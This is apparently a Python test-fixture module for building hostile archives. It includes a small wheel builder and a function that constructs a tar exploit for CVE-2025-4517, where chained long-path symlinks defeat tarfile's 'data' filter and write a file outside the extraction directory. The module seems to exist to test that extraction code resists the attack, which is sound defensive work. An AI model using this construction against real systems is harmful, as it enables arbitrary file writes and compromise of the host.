"""Archives with members that an honest one does not have."""

from __future__ import annotations

import io
import os
import tarfile
import zipfile
from pathlib import Path

Member = tuple[tarfile.TarInfo, bytes]

STEPS = "abcdefghijklmnop"


def member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", content: bytes = b"") -> Member:
    made = tarfile.TarInfo(name)
    made.type, made.linkname, made.size = kind, link, len(content)
    return made, content


def write(path: Path, *members: Member, mode: str = "w:gz") -> Path:
    with tarfile.open(path, mode) as tar:  # type: ignore[call-overload]
        for info, content in members:
            tar.addfile(info, io.BytesIO(content))
    return path


def through_a_long_path(target: Path) -> list[Member]:
    """CVE-2025-4517: realpath gives up on a path this long, and `filter="data"` lets the last link out."""
    members, path, folder = [], "", "d" * 247
    for step in STEPS:
        members.append(member(os.path.join(path, folder), tarfile.DIRTYPE))
        members.append(member(os.path.join(path, step), tarfile.SYMTYPE, folder))
        path = os.path.join(path, folder)
    longest = os.path.join("/".join(STEPS), "l" * 254)
    members.append(member(longest, tarfile.SYMTYPE, "../" * len(STEPS)))
    members.append(member("escape", tarfile.SYMTYPE, longest + "/.." * 14 + str(target)))
    members.append(member("escape/slipped", content=b"outside"))
    return members


def wheel(name: str, source: str, version: str = "1.0") -> bytes:
    """A wheel with one module."""
    packed = io.BytesIO()
    info = f"{name}-{version}.dist-info"
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(f"{name}.py", source)
        archive.writestr(f"{info}/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
        archive.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr(f"{info}/RECORD", "")
    return packed.getvalue()
